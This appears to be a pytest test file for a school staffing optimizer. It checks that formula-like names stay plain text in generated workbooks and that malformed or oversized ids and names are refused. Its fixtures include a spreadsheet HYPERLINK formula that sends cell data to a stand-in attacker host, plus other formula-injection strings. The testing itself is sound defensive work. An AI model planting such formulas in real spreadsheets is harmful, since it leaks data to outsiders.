"""Hostile cells: a name that is a spreadsheet formula stays text in every workbook the program
writes, ids are restricted to a documented set, and an oversized cell is refused without being
echoed back."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from bundle_edits import good_bundle, write

from optimizer.errors import ScenarioError
from optimizer.io import load_bundle, write_workbook
from optimizer.io.outputs import write_outputs
from optimizer.options import EngineSettings
from optimizer.solve import solve
from tests import tiny

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1, "详情")'


def _formulas(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {
        str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None
    }


def test_names_that_look_like_formulas_stay_text_in_plan_xlsx(tmp_path: Path) -> None:
    county = tiny.two_school_county(rural_need=1)
    named = replace(
        county,
        teachers=tuple(replace(t, name=LEAK) for t in county.teachers),
        schools=tuple(replace(s, name="=2+2") for s in county.schools),
    )
    result = solve(named, EngineSettings(time_limit=20, seed=1))
    assert result.plan.moves
    write_outputs(result, named, tmp_path)
    workbook = tmp_path / "plan.xlsx"
    assert _formulas(workbook) == []
    assert {LEAK, "=2+2"} <= _texts(workbook)


def test_a_scenario_workbook_keeps_formula_like_names_as_text(tmp_path: Path) -> None:
    county = tiny.two_school_county()
    named = replace(county, schools=tuple(replace(s, name=LEAK) for s in county.schools))
    path = write_workbook(named, tmp_path / "scenario.xlsx")
    assert _formulas(path) == []
    assert LEAK in _texts(path)


T09_ROW = 10
"""T09 (spreadsheet row 10 of teachers.csv) is referred to by no other row."""


def _with_t09(tmp_path: Path, column: str, value: str) -> Path:
    bundle = good_bundle()
    teachers = bundle["teachers.csv"]
    assert isinstance(teachers, list) and teachers[T09_ROW - 1][0] == "T09"
    teachers[T09_ROW - 1][teachers[0].index(column)] = value
    return write(bundle, tmp_path / "bundle")


@pytest.mark.parametrize(
    "value",
    ["=2+2", "+86-1", "@SUM(A1)", "-T01", "T 01", "T01;T02", "x" * 100_000],
)
def test_ids_outside_the_documented_set_are_refused(tmp_path: Path, value: str) -> None:
    with pytest.raises(ScenarioError) as error:
        load_bundle(_with_t09(tmp_path, "teacher_id", value))
    problem = next(p for p in error.value.problems if p.column == "teacher_id")
    assert (problem.file, problem.row, problem.code) == ("teachers.csv", T09_ROW, "bad_value")
    assert "64" in problem.en and "64" in problem.zh
    assert len(problem.en) < 400 and len(problem.zh) < 400  # the value is not echoed whole


def test_ids_may_be_chinese_or_dotted(tmp_path: Path) -> None:
    scenario = load_bundle(_with_t09(tmp_path, "teacher_id", "教师.2019-001"))
    assert "教师.2019-001" in scenario.teacher_by_id


def test_an_oversized_name_is_refused_without_being_echoed(tmp_path: Path) -> None:
    with pytest.raises(ScenarioError) as error:
        load_bundle(_with_t09(tmp_path / "long", "name", "张" * 5_000))
    problem = next(p for p in error.value.problems if p.column == "name")
    assert (problem.row, problem.code) == (T09_ROW, "bad_value")
    assert "200" in problem.en and "(5000)" in problem.en and len(problem.en) < 300
    with pytest.raises(ScenarioError) as error:  # past the CSV reader's own field limit
        load_bundle(_with_t09(tmp_path / "huge", "name", "张" * 1_000_000))
    assert all(len(p.en) < 300 and len(p.zh) < 300 for p in error.value.problems)
